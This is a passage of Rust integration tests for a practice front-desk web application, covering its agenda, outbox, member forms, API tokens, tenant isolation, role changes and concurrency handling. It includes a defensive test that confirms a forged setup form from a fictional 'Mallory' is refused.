    assert_eq!(status, 422, "a file naming another practice is refused");
    let (_, clients) = call("GET", &u("/api/v1/clients"), Some(&olga), None);
    assert_eq!(clients.as_array().unwrap().len(), 1);

    let (status, dash) = call("GET", &u("/api/v1/dashboard"), Some(&ana), None);
    assert_eq!(status, 200);
    assert!(dash["weeks"].is_array() && dash["responses"].is_array() && dash["overdue"].is_u64());
    let (_, doc) = call("GET", &u("/api/openapi.json"), None, None);
    for path in [
        "/api/v1/clients",
        "/api/v1/clients/{handle}/terms",
        "/api/v1/practice",
        "/api/v1/dashboard",
    ] {
        assert!(doc["paths"][path].is_object(), "{path} missing");
    }
}

#[test]
fn serve_reads_an_optional_configuration_file_and_refuses_a_bad_one() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let tok = token(&desk, None, "ana");
    let config = desk.dir.path().join("frontdesk.toml");
    std::fs::write(
        &config,
        format!(
            "addr = \"127.0.0.1:0\"\ndb = {:?}\nsecure_cookies = true\n",
            desk.db().display().to_string()
        ),
    )
    .unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_frontdesk"))
        .args(["serve", "--config"])
        .arg(&config)
        .env_remove("FRONTDESK_DB")
        .env("FRONTDESK_LOG", "warn")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let url = line
        .trim()
        .trim_start_matches("frontdesk is serving at ")
        .trim_end_matches('/')
        .to_string();
    let (status, _) = call("GET", &format!("{url}/api/v1/inbox"), Some(&tok), None);
    let cookie = agent()
        .get(format!("{url}/signin"))
        .call()
        .unwrap()
        .headers()
        .get("set-cookie")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(status, 200, "the database came from the file");
    assert!(cookie.contains("; Secure"), "{cookie}");
    std::fs::write(&config, "adress = \"127.0.0.1:0\"\n").unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_frontdesk"))
        .args(["serve", "--config"])
        .arg(&config)
        .env_remove("FRONTDESK_DB")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("adress") && err.contains("frontdesk.toml"),
        "{err}"
    );
}

#[test]
fn meetings_are_marked_from_the_agenda_page_and_the_client_page_shows_the_allowance() {
    let desk = ana_and_pedro();
    let server = Server::start(&desk);
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    // A past week: acme's standing call on Friday 2026-11-06 at 10:00 Madrid.
    let (status, html) = page(&server, "/agenda?from=2026-11-04", Some(&session));
    assert_eq!(status, 200);
    assert!(
        html.contains("Fri 2026-11-06 10:00 CET") && html.contains("standing call"),
        "{html}"
    );
    let csrf = form_csrf(&html);
    let mark = |session: &str, id: &str, status: &str| {
        submit(
            &server,
            session,
            "/agenda/mark",
            &[
                ("csrf", &csrf),
                ("id", id),
                ("status", status),
                ("from", "2026-11-02"),
            ],
        )
    };
    let (status, _) = mark(&session, "acme@2026-11-06T09:00:00Z", "held");
    assert_eq!(status, 303);
    let agenda = desk.json(&[
        "agenda",
        "--client",
        "acme",
        "--from",
        "2026-11-02",
        "--days",
        "7",
    ]);
    assert_eq!(agenda[0]["status"], "held");
    let (_, html) = page(&server, "/agenda?from=2026-11-02", Some(&session));
    assert!(html.contains("held (30 min)"), "{html}");
    // A call far in the future cannot be a no-show yet: the page says why.
    let resp = post_form(
        &server,
        "/agenda/mark",
        &format!("fd_session={session}"),
        &[
            ("csrf", &csrf),
            ("id", "acme@2030-01-04T09:00:00Z"),
            ("status", "no-show"),
            ("from", "2030-01-01"),
        ],
    );
    let location = resp
        .headers()
        .get("location")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        location.contains("error=") && location.contains("once%20it%20has%20started"),
        "{location}"
    );
    // pedro (a member) cannot mark ana's calls.
    let pedro = sign_in(&server, "pedro@ruiz.example", "pedro's long password");
    let (_, html) = page(&server, "/agenda", Some(&pedro));
    let pedro_csrf = form_csrf(&html);
    let (status, _) = submit(
        &server,
        &pedro,
        "/agenda/mark",
        &[
            ("csrf", &pedro_csrf),
            ("id", "acme@2026-11-13T09:00:00Z"),
            ("status", "held"),
            ("from", "2026-11-09"),
        ],
    );
    assert_eq!(status, 404);
    // The client page: the week's allowance use and the next standing call.
    let (_, html) = page(&server, "/clients/acme", Some(&session));
    assert!(
        html.contains("ad-hoc calls used") && html.contains("of 2"),
        "{html}"
    );
    assert!(html.contains("Next standing call: Fri"), "{html}");
}

#[test]
fn dates_follow_the_members_language() {
    let desk = ana_with_password();
    let tok = token(&desk, None, "ana");
    let server = Server::start(&desk);
    record(&server, &tok, MARCOS_EARLIER);
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    let (_, html) = page(&server, "/contacts/1", Some(&session));
    assert!(html.contains("Tue 2025-12-02 09:12 CET"), "{html}");
    let csrf = form_csrf(&html);
    for (lang, date) in [
        ("es", "mar 02/12/2025 09:12 CET"),
        ("ru", "вт 02.12.2025 09:12 CET"),
        ("it", "mar 02/12/2025 09:12 CET"),
        ("nl", "di 02-12-2025 09:12 CET"),
    ] {
        let (status, _) = submit(
            &server,
            &session,
            "/language",
            &[("csrf", &csrf), ("language", lang)],
        );
        assert_eq!(status, 303);
        let (_, html) = page(&server, "/contacts/1", Some(&session));
        assert!(html.contains(date), "{lang}: {html}");
    }
    // The reasons are said in the member's language too (Dutch now), with their times.
    let evening = r#"{"client":"acme","channel":"email","from":"marcos@acme.example","at":"2025-12-02T21:30:00+01:00","body":"Sobre el informe de indicadores"}"#;
    record(&server, &tok, evening);
    let (_, html) = page(&server, "/contacts/2", Some(&session));
    assert!(
        html.contains("di 02-12-2025 21:30 (Europe/Madrid) valt buiten de werktijd van ana"),
        "{html}"
    );
    let (_, html) = page(&server, "/contacts/1", Some(&session));
    assert!(html.contains("vraagt alleen om terug te bellen"), "{html}");
}

/// (status, JSON) of a DELETE with a token.
fn delete(url: &str, token: &str) -> u16 {
    agent()
        .delete(url)
        .header("Authorization", format!("Bearer {token}"))
        .call()
        .unwrap()
        .status()
        .as_u16()
}

#[test]
fn the_agenda_meetings_and_tokens_over_the_api_and_their_tenant_walls() {
    let desk = ana_and_pedro();
    add_other_practice(&desk);
    desk.ok_with_stdin(
        &[
            "--practice",
            "Other Desk",
            "password",
            "set",
            "--member",
            "olga",
        ],
        "olga's long password\n",
    );
    let ana = token(&desk, Some("Ruiz Consulting"), "ana");
    let pedro = token(&desk, Some("Ruiz Consulting"), "pedro");
    let olga = token(&desk, Some("Other Desk"), "olga");
    let server = Server::start(&desk);
    let u = |path: &str| format!("{}{path}", server.url);

    let (status, list) = call(
        "GET",
        &u("/api/v1/agenda?client=acme&from=2026-12-01&days=14"),
        Some(&ana),
        None,
    );
    assert_eq!(status, 200, "{list}");
    let cli = desk.json(&[
        "--practice",
        "Ruiz Consulting",
        "agenda",
        "--client",
        "acme",
        "--from",
        "2026-12-01",
        "--days",
        "14",
    ]);
    assert_eq!(list, cli, "the API lists what the CLI lists");
    let id = list[0]["id"].as_str().unwrap().to_string();
    let mark = |token: &str, id: &str, body: &str| {
        call(
            "POST",
            &u(&format!("/api/v1/meetings/{id}/mark")),
            Some(token),
            Some(body),
        )
    };
    let (status, err) = mark(
        &ana,
        &id,
        r#"{"status":"no-show","at":"2026-11-30T00:00:00Z"}"#,
    );
    assert_eq!(
        (status, err["error"]["code"].clone()),
        (409, json!("conflict"))
    );
    let (status, held) = mark(
        &ana,
        &id,
        r#"{"status":"held","at":"2026-12-04T10:00:00Z","minutes":25}"#,
    );
    assert_eq!(status, 200, "{held}");
    assert_eq!(held["held_minutes"], 25);
    let (status, _) = mark(
        &pedro,
        &id,
        r#"{"status":"cancelled","at":"2026-12-01T00:00:00Z"}"#,
    );
    assert_eq!(status, 404, "a member does not touch others' meetings");
    let (status, _) = mark(
        &olga,
        &id,
        r#"{"status":"cancelled","at":"2026-12-01T00:00:00Z"}"#,
    );
    assert_eq!(status, 404, "another practice does not either");
    let (status, _) = call("GET", &u("/api/v1/agenda?client=acme"), Some(&olga), None);
    assert_eq!(status, 404);
    let (status, _) = call("GET", &u("/api/v1/agenda?member=ana"), Some(&pedro), None);
    assert_eq!(status, 404);

    // Tokens: created (the secret once), listed, revoked; never across practices.
    let (status, made) = call("POST", &u("/api/v1/tokens"), Some(&ana), Some("{}"));
    assert_eq!(status, 201);
    let fresh = made["token"].as_str().unwrap().to_string();
    let (status, _) = call("GET", &u("/api/v1/inbox"), Some(&fresh), None);
    assert_eq!(status, 200);
    let (_, list) = call("GET", &u("/api/v1/tokens"), Some(&ana), None);
    assert!(
        list.as_array()
            .unwrap()
            .iter()
            .all(|t| t.get("token").is_none()),
        "{list}"
    );
    let number = made["id"].as_i64().unwrap();
    assert_eq!(delete(&u(&format!("/api/v1/tokens/{number}")), &olga), 404);
    assert_eq!(delete(&u(&format!("/api/v1/tokens/{number}")), &ana), 204);
    let (status, _) = call("GET", &u("/api/v1/inbox"), Some(&fresh), None);
    assert_eq!(status, 401);

    // The pages keep the same walls: olga's session finds none of Ruiz Consulting's.
    let session = sign_in(&server, "olga@other.example", "olga's long password");
    let (status, _) = page(&server, "/clients/acme", Some(&session));
    assert_eq!(status, 404);
    let (_, html) = page(&server, "/agenda", Some(&session));
    let csrf = form_csrf(&html);
    let (status, _) = submit(
        &server,
        &session,
        "/agenda/mark",
        &[
            ("csrf", &csrf),
            ("id", &id),
            ("status", "cancelled"),
            ("from", "2026-12-01"),
        ],
    );
    assert_eq!(status, 404);
    let (_, html) = page(&server, "/dashboard", Some(&session));
    assert!(
        !html.contains("acme"),
        "the dashboard shows only olga's practice"
    );
}

#[test]
fn members_and_their_hours_are_edited_and_added_in_forms() {
    let desk = ana_and_pedro();
    let server = Server::start(&desk);
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    let (_, html) = page(&server, "/team", Some(&session));
    assert!(html.contains("id=\"member-pedro\""), "{html}");
    let csrf = form_csrf(&html);
    let pedro = |mon: &str, holidays: &str| {
        vec![
            ("csrf", csrf.clone()),
            ("handle", "pedro".to_string()),
            ("name", "Pedro Sanz".to_string()),
            ("email", "pedro@ruiz.example".to_string()),
            ("role", "manager".to_string()),
            ("time_zone", "Europe/Madrid".to_string()),
            ("hours_mon", mon.to_string()),
            ("hours_tue", "08:00-15:00".to_string()),
            ("hours_wed", "08:00-15:00".to_string()),
            ("hours_thu", "08:00-15:00".to_string()),
            ("hours_fri", "".to_string()),
            ("hours_sat", "".to_string()),
            ("hours_sun", "".to_string()),
            ("holidays", holidays.to_string()),
        ]
    };
    let send = |path: &str, form: &[(&str, String)]| {
        let refs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
        submit(&server, &session, path, &refs)
    };
    let before = desk.ok(&["export"]);
    let (status, html) = send("/team/members", &pedro("9-12", ""));
    assert_eq!(status, 422);
    // The field in words, not the file's path; what was typed is kept in the open form.
    assert!(
        html.contains("Monday hours: ") && !html.contains("members[1]"),
        "{html}"
    );
    assert!(html.contains("value=\"9-12\""), "{html}");
    assert!(html.contains("value=\"Pedro Sanz\""), "{html}");
    assert_eq!(desk.ok(&["export"]), before);
    let (status, _) = send(
        "/team/members",
        &pedro("08:00-12:00, 13:00-15:00", "2026-12-24"),
    );
    assert_eq!(status, 303);
    let after = desk.ok(&["export"]);
    assert!(
        after.contains("hours.mon = [\"08:00-12:00\", \"13:00-15:00\"]"),
        "{after}"
    );
    assert!(
        after.contains("holidays = [\"2026-12-24\"]") && after.contains("role = \"manager\""),
        "{after}"
    );
    assert!(
        !after.contains("hours.fri = [\"08:00-15:00\"]"),
        "Friday off now"
    );
    // A new member with a password can sign in.
    let mut lucia = pedro("09:00-17:00", "");
    lucia[1].1 = "lucia".to_string();
    lucia[2].1 = "Lucía Gómez".to_string();
    lucia[3].1 = "lucia@ruiz.example".to_string();
    lucia[4].1 = "member".to_string();
    lucia.push(("password", "lucía's long password".to_string()));
    let (status, html) = send("/team/members/new", &lucia);
    assert_eq!(status, 303, "{html}");
    assert!(desk.ok(&["export"]).contains("handle = \"lucia\""));
    sign_in(&server, "lucia@ruiz.example", "lucía's long password");
    let (status, _) = send("/team/members/new", &lucia);
    assert_eq!(status, 422, "the handle is taken");
}

#[test]
fn cookies_are_secure_when_a_proxy_says_the_request_came_over_https() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let server = Server::start(&desk);
    let cookie = |proto: Option<&str>| {
        let mut r = agent().get(format!("{}/signin", server.url));
        if let Some(p) = proto {
            r = r.header("X-Forwarded-Proto", p);
        }
        r.call()
            .unwrap()
            .headers()
            .get("set-cookie")
            .unwrap()
            .to_str()
            .unwrap()
            .to_string()
    };
    assert!(!cookie(None).contains("Secure"));
    assert!(!cookie(Some("http")).contains("Secure"));
    assert!(cookie(Some("https")).contains("; Secure"));
}

/// The example practice with a second owner: pedro owns Beta.
fn two_owners() -> Desk {
    let desk = Desk::new();
    let file = desk.dir.path().join("two-owners.toml");
    let text = std::fs::read_to_string(RUIZ).unwrap()
        + "\n[[clients]]\nhandle = \"beta\"\nname = \"Beta Ltd\"\nowner = \"pedro\"\n";
    std::fs::write(&file, text).unwrap();
    desk.ok(&["apply", file.to_str().unwrap()]);
    desk
}

/// An e-mail to Beta, pedro's client.
fn beta_email(desk: &Desk) {
    common::add_from(
        desk,
        None,
        "beta",
        "email",
        "ops@beta.example",
        "2026-12-02T09:00:00+01:00",
        "Invoice question",
    );
}

#[test]
fn a_members_inbox_is_filtered_before_the_limit_and_counts_only_theirs() {
    let desk = two_owners();
    // Ana's client has sixty contacts, all due before pedro's one.
    for i in 0..60 {
        let at = format!("2026-12-01T09:{:02}:00+01:00", i % 60);
        common::add(&desk, "chat", &at, "¿Qué tal el informe?");
    }
    beta_email(&desk);
    let pedro = token(&desk, None, "pedro");
    let ana = token(&desk, None, "ana");
    let server = Server::start(&desk);
    let at = "2026-12-01T08:00:00Z";
    let (status, inbox) = call(
        "GET",
        &format!("{}/api/v1/inbox?limit=50&at={at}", server.url),
        Some(&pedro),
        None,
    );
    assert_eq!(status, 200, "{inbox}");
    let clients: Vec<&str> = inbox["contacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["client"].as_str().unwrap())
        .collect();
    assert_eq!(clients, vec!["beta"], "{inbox}");
    assert_eq!(inbox["open"], 1, "pedro's count, not the practice's");
    let (_, all) = call(
        "GET",
        &format!("{}/api/v1/inbox?limit=50&at={at}", server.url),
        Some(&ana),
        None,
    );
    assert_eq!(all["open"], 61);
    assert_eq!(all["contacts"].as_array().unwrap().len(), 50);
}

#[test]
fn a_members_dashboard_counts_their_own_overdue_contacts() {
    let desk = two_owners();
    for i in 0..3 {
        let at = format!("2026-12-01T09:0{i}:00+01:00");
        common::add(&desk, "chat", &at, "¿Qué tal el informe?");
    }
    beta_email(&desk);
    let pedro = token(&desk, None, "pedro");
    let ana = token(&desk, None, "ana");
    // A week later everything is overdue.
    let (server, _) = Server::start_with(&desk, &["--at", "2026-12-10T12:00:00Z"]);
    let overdue = |token: &str| {
        let (status, dash) = call(
            "GET",
            &format!("{}/api/v1/dashboard", server.url),
            Some(token),
            None,
        );
        assert_eq!(status, 200, "{dash}");
        dash["overdue"].as_u64().unwrap()
    };
    assert_eq!(
        overdue(&pedro),
        1,
        "pedro's own, not 0 and not the practice's"
    );
    assert_eq!(overdue(&ana), 4, "the owner sees the practice's");
}

#[test]
fn the_outbox_is_delivered_by_the_server_and_shown_to_those_who_oversee() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    add_other_practice(&desk);
    let d = common::add_from(
        &desk,
        Some("Ruiz Consulting"),
        "acme",
        "email",
        "marcos@acme.example",
        "2026-12-05T22:00:00+01:00",
        "¿Revisamos el informe?",
    );
    let ana = token(&desk, Some("Ruiz Consulting"), "ana");
    let pedro = token(&desk, Some("Ruiz Consulting"), "pedro");
    let olga = token(&desk, Some("Other Desk"), "olga");
    let file = desk.dir.path().join("sent.jsonl");
    // The server's first pass runs before it serves: what was queued while it was down is
    // delivered by the time it answers.
    let (server, _) = Server::start_with(
        &desk,
        &[
            "--at",
            "2026-12-05T22:05:00+01:00",
            "--outbox-file",
            file.to_str().unwrap(),
        ],
    );
    let sent = std::fs::read_to_string(&file).unwrap();
    assert_eq!(sent.lines().count(), 1, "{sent}");
    assert!(sent.contains("marcos@acme.example"));

    let u = |path: &str| format!("{}{path}", server.url);
    let (status, list) = call("GET", &u("/api/v1/outbox?all=true"), Some(&ana), None);
    assert_eq!(status, 200, "{list}");
    assert_eq!(list[0]["key"], format!("reply:{}", d["id"]));
    assert_eq!(list[0]["state"], "sent");
    assert_eq!(
        list[0]["sent"], "2026-12-05T21:05:00Z",
        "the server's clock"
    );
    let (status, _) = call("GET", &u("/api/v1/outbox"), Some(&pedro), None);
    assert_eq!(status, 403, "members do not read every client's messages");
    let (_, theirs) = call("GET", &u("/api/v1/outbox?all=true"), Some(&olga), None);
    assert_eq!(theirs, json!([]), "another practice sees none of it");
    let id = list[0]["id"].as_i64().unwrap();
    let (status, _) = call(
        "POST",
        &u(&format!("/api/v1/outbox/{id}/retry")),
        Some(&olga),
        None,
    );
    assert_eq!(status, 404);
    let (status, _) = call(
        "POST",
        &u(&format!("/api/v1/outbox/{id}/retry")),
        Some(&ana),
        None,
    );
    assert_eq!(status, 404, "a sent message is not sent again");

    desk.ok_with_stdin(
        &[
            "--practice",
            "Ruiz Consulting",
            "password",
            "set",
            "--member",
            "ana",
        ],
        "correct horse battery\n",
    );
    let session = common::sign_in(&server, "ana@ruiz.example", "correct horse battery");
    let (status, html) = common::page(&server, "/outbox", Some(&session));
    assert_eq!(status, 200);
    assert!(html.contains("marcos@acme.example"), "{html}");
    assert!(
        html.contains("<h1>Outbox</h1>"),
        "no language asked for: English; {html}"
    );
}

#[test]
fn a_contact_posted_days_after_it_arrived_gets_no_auto_reply() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let ana = token(&desk, None, "ana");
    let (server, _) = Server::start_with(&desk, &["--at", "2026-12-10T12:00:00Z"]);
    let night = |at: &str| {
        format!(
            r#"{{"client":"acme","channel":"email","from":"marcos@acme.example","at":"{at}","body":"¿Revisamos el informe?"}}"#
        )
    };
    // Five days old: recorded, decided, and no reply queued.
    let (status, old) = record(&server, &ana, &night("2026-12-05T22:00:00+01:00"));
    assert_eq!(
        (status, old["decision"].as_str()),
        (201, Some("hold")),
        "{old}"
    );
    // Last night's: its reply is queued.
    let (status, fresh) = record(&server, &ana, &night("2026-12-09T23:00:00+01:00"));
    assert_eq!(
        (status, fresh["decision"].as_str()),
        (201, Some("hold")),
        "{fresh}"
    );
    let (status, outbox) = call(
        "GET",
        &format!("{}/api/v1/outbox?all=true", server.url),
        Some(&ana),
        None,
    );
    assert_eq!(status, 200, "{outbox}");
    let keys: Vec<&str> = outbox
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["key"].as_str().unwrap())
        .collect();
    assert_eq!(keys, [format!("reply:{}", fresh["id"])], "{outbox}");
}

#[test]
fn setup_never_hands_over_a_practice_applied_with_the_cli() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let tok = token(&desk, None, "pedro");
    let exported = desk.ok(&["export"]);
    let server = Server::start(&desk);
    // The page says what to do on the server, and offers no form.
    let resp = agent().get(format!("{}/setup", server.url)).call().unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let html = resp.into_body().read_to_string().unwrap();
    assert!(
        html.contains("Ruiz Consulting") && html.contains("frontdesk password set"),
        "{html}"
    );
    assert!(!html.contains("name=\"password\""), "{html}");
    // A forged first-run form with the practice's name changes nothing and signs no one in.
    let csrf = "c".repeat(64);
    let resp = agent()
        .post(format!("{}/setup", server.url))
        .header("Cookie", format!("fd_csrf={csrf}"))
        .send_form([
            ("csrf", csrf.as_str()),
            ("practice", "Ruiz Consulting"),
            ("name", "Mallory"),
            ("handle", "mallory"),
            ("email", "mallory@evil.example"),
            ("time_zone", "Europe/Madrid"),
            ("language", "en"),
            ("password", "a long enough password"),
        ])
        .unwrap();
    assert_eq!(resp.status().as_u16(), 409);
    assert!(set_cookie(&resp, "fd_session").is_none());
    assert_eq!(desk.ok(&["export"]), exported);
    let (status, _) = call(
        "GET",
        &format!("{}/api/v1/inbox", server.url),
        Some(&tok),
        None,
    );
    assert_eq!(status, 200, "pedro's token still works");
}

#[test]
fn feeds_are_listed_and_unsubscribed_over_the_api_by_their_member_or_an_owner() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let ana = token(&desk, None, "ana");
    let pedro = token(&desk, None, "pedro");
    let server = Server::start(&desk);
    let feeds = |tok: &str| {
        let (status, list) = call(
            "GET",
            &format!("{}/api/v1/busy-feeds", server.url),
            Some(tok),
            None,
        );
        assert_eq!(status, 200, "{list}");
        list.as_array().unwrap().clone()
    };
    assert!(feeds(&pedro).is_empty());
    let body = std::sync::Arc::new(std::sync::Mutex::new(
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:a\r\nDTSTART:20261201T080000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_string(),
    ));
    let url = common::calendar_server(body);
    desk.json(&["busy", "subscribe", "--member", "pedro", &url]);
    let mine = feeds(&pedro);
    assert_eq!(mine.len(), 1);
    assert_eq!(mine[0]["member"], "pedro");
    assert!(
        !mine[0]["host"].as_str().unwrap().contains("ana.ics"),
        "no secret path"
    );
    assert_eq!(feeds(&ana).len(), 1, "the owner sees every feed");
    let id = mine[0]["id"].as_i64().unwrap();
    let delete = |tok: &str| {
        call(
            "DELETE",
            &format!("{}/api/v1/busy-feeds/{id}", server.url),
            Some(tok),
            None,
        )
        .0
    };
    assert_eq!(delete(&ana), 204);
    assert!(feeds(&pedro).is_empty());
    assert_eq!(delete(&pedro), 404, "gone");
}

/// A PUT with extra headers: (status, body, ETag).
fn put_with(url: &str, token: &str, body: &Value, headers: &[(&str, &str)]) -> (u16, Value) {
    let mut r = agent()
        .put(url)
        .header("Authorization", format!("Bearer {token}"))
        .header("Content-Type", "application/json");
    for (k, v) in headers {
        r = r.header(*k, *v);
    }
    let resp = r.send(body.to_string()).unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

#[test]
fn concurrent_edits_of_different_clients_never_undo_each_other() {
    let desk = Desk::new();
    let file = desk.dir.path().join("three.toml");
    let mut text = std::fs::read_to_string(RUIZ).unwrap();
    for h in ["beta", "gamma"] {
        text += &format!("\n[[clients]]\nhandle = \"{h}\"\nname = \"{h}\"\nowner = \"ana\"\n");
    }
    std::fs::write(&file, text).unwrap();
    desk.ok(&["apply", file.to_str().unwrap()]);
    let ana = token(&desk, None, "ana");
    let server = Server::start(&desk);
    let url = |h: &str| format!("{}/api/v1/clients/{h}/terms", server.url);
    let (_, acme) = call(
        "GET",
        &format!("{}/api/v1/clients/acme", server.url),
        Some(&ana),
        None,
    );
    let base = acme["terms"].clone();
    std::thread::scope(|s| {
        for h in ["acme", "beta", "gamma"] {
            let (url, ana, base) = (url(h), ana.clone(), base.clone());
            s.spawn(move || {
                for pct in 1..=15 {
                    let mut t = base.clone();
                    t["after_hours_surcharge_pct"] = json!(pct);
                    let (status, body) = put(&url, &ana, &t);
                    assert_eq!(status, 200, "{body}");
                }
            });
        }
    });
    // Every client keeps its last acknowledged change.
    for h in ["acme", "beta", "gamma"] {
        let (_, c) = call(
            "GET",
            &format!("{}/api/v1/clients/{h}", server.url),
            Some(&ana),
            None,
        );
        assert_eq!(c["terms"]["after_hours_surcharge_pct"], 15, "{h}: {c}");
    }
}

#[test]
fn a_whole_file_written_from_a_stale_read_is_refused() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let ana = token(&desk, None, "ana");
    let server = Server::start(&desk);
    let practice = format!("{}/api/v1/practice", server.url);
    let resp = agent()
        .get(&practice)
        .header("Authorization", format!("Bearer {ana}"))
        .call()
        .unwrap();
    let etag = resp.headers()["etag"].to_str().unwrap().to_string();
    let file: Value = serde_json::from_str(&resp.into_body().read_to_string().unwrap()).unwrap();
    // Someone changes ACME's terms meanwhile.
    let (_, acme) = call(
        "GET",
        &format!("{}/api/v1/clients/acme", server.url),
        Some(&ana),
        None,
    );
    let mut terms = acme["terms"].clone();
    terms["email"] = json!("6h");
    assert_eq!(
        put(
            &format!("{}/api/v1/clients/acme/terms", server.url),
            &ana,
            &terms
        )
        .0,
        200
    );
    // The file read before would undo it: refused, and nothing changes.
    let (status, err) = put_with(&practice, &ana, &file, &[("If-Match", &etag)]);
    assert_eq!(status, 412, "{err}");
    assert_eq!(err["error"]["code"], "stale");
    let (_, acme) = call(
        "GET",
        &format!("{}/api/v1/clients/acme", server.url),
        Some(&ana),
        None,
    );
    assert_eq!(acme["terms"]["email"], "6h");
    // Read again, the same write goes through.
    let resp = agent()
        .get(&practice)
        .header("Authorization", format!("Bearer {ana}"))
        .call()
        .unwrap();
    let fresh = resp.headers()["etag"].to_str().unwrap().to_string();
    let file: Value = serde_json::from_str(&resp.into_body().read_to_string().unwrap()).unwrap();
    assert_eq!(
        put_with(&practice, &ana, &file, &[("If-Match", &fresh)]).0,
        200
    );
}

#[test]
fn only_an_owner_changes_roles_and_the_last_owner_stays() {
    let desk = Desk::new();
    let file = desk.dir.path().join("manager.toml");
    let text = std::fs::read_to_string(RUIZ).unwrap().replacen(
        "role = \"member\"",
        "role = \"manager\"",
        1,
    );
    std::fs::write(&file, &text).unwrap();
    desk.ok(&["apply", file.to_str().unwrap()]);
    let ana = token(&desk, None, "ana");
    let pedro = token(&desk, None, "pedro");
    let server = Server::start(&desk);
    let practice = format!("{}/api/v1/practice", server.url);
    let before = desk.ok(&["export"]);
    let with_roles = |ana_role: &str, pedro_role: &str| {
        let t = text
            .replacen("role = \"owner\"", &format!("role = \"{ana_role}\""), 1)
            .replacen("role = \"manager\"", &format!("role = \"{pedro_role}\""), 1);
        json!({ "file": t })
    };
    // Pedro, a manager, makes himself owner and demotes Ana: refused, nothing changes.
    let (status, err) = put(&practice, &pedro, &with_roles("member", "owner"));
    assert_eq!(status, 403, "{err}");
    assert!(
        err["error"]["message"]
            .as_str()
            .unwrap()
            .contains("only an owner"),
        "{err}"
    );
    // Ana, the only owner, cannot demote herself either.
    let (status, err) = put(&practice, &ana, &with_roles("manager", "manager"));
    assert_eq!(status, 403, "{err}");
    assert!(
        err["error"]["message"].as_str().unwrap().contains("last"),
        "{err}"
    );
    assert_eq!(desk.ok(&["export"]), before, "nothing changed");
    // An owner may promote Pedro, and then step down.
    assert_eq!(put(&practice, &ana, &with_roles("owner", "owner")).0, 200);
    assert_eq!(put(&practice, &ana, &with_roles("manager", "owner")).0, 200);
}

#[test]
fn a_new_password_signs_out_the_sessions_of_the_old_one() {
    let desk = ana_with_password();
    let server = Server::start(&desk);
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    assert_eq!(page(&server, "/inbox", Some(&session)).0, 200);
    desk.ok_with_stdin(
        &["password", "set", "--member", "ana"],
        "another long password\n",
    );
    assert_eq!(page(&server, "/inbox", Some(&session)).0, 303, "signed out");
    let again = sign_in(&server, "ana@ruiz.example", "another long password");
    assert_eq!(page(&server, "/inbox", Some(&again)).0, 200);
}

#[test]
fn a_retried_post_with_the_same_idempotency_key_records_the_contact_once() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let ana = token(&desk, None, "ana");
    let (server, _) = Server::start_with(&desk, &["--at", "2026-12-05T22:30:00+01:00"]);
    let post = |key: &str| {
        let resp = agent()
            .post(format!("{}/api/v1/contacts", server.url))
            .header("Authorization", format!("Bearer {ana}"))
            .header("Content-Type", "application/json")
            .header("Idempotency-Key", key)
            .send(r#"{"client":"acme","channel":"email","from":"marcos@acme.example","at":"2026-12-05T22:00:00+01:00","body":"¿Revisamos el informe?"}"#)
            .unwrap();
        let status = resp.status().as_u16();
        let body: Value =
            serde_json::from_str(&resp.into_body().read_to_string().unwrap()).unwrap();
        (status, body)
    };
    let (first_status, first) = post("6f1c2b1e-retry-1");
    let (again_status, again) = post("6f1c2b1e-retry-1");
    assert_eq!((first_status, again_status), (201, 201));
    assert_eq!(first, again, "the first answer, again");
    let (_, other) = post("6f1c2b1e-retry-2");
    assert_ne!(other["id"], first["id"]);
    let (_, inbox) = call(
        "GET",
        &format!("{}/api/v1/inbox", server.url),
        Some(&ana),
        None,
    );
    assert_eq!(inbox["open"], 2, "{inbox}");
    let (_, outbox) = call(
        "GET",
        &format!("{}/api/v1/outbox?all=true", server.url),
        Some(&ana),
        None,
    );
    assert_eq!(
        outbox.as_array().unwrap().len(),
        1,
        "one auto-reply: the same sender, for the same reason, the same week: {outbox}"
    );
    // The same key for a different contact is refused, and another member's same key is theirs.
    let resp = agent()
        .post(format!("{}/api/v1/contacts", server.url))
        .header("Authorization", format!("Bearer {ana}"))
        .header("Content-Type", "application/json")
        .header("Idempotency-Key", "6f1c2b1e-retry-1")
        .send(r#"{"client":"acme","channel":"call","from":"+34600111222","body":"Otra cosa"}"#)
        .unwrap();
    assert_eq!(resp.status().as_u16(), 422);
    let pedro = token(&desk, None, "pedro");
    let resp = agent()
        .post(format!("{}/api/v1/contacts", server.url))
        .header("Authorization", format!("Bearer {pedro}"))
        .header("Content-Type", "application/json")
        .header("Idempotency-Key", "6f1c2b1e-retry-1")
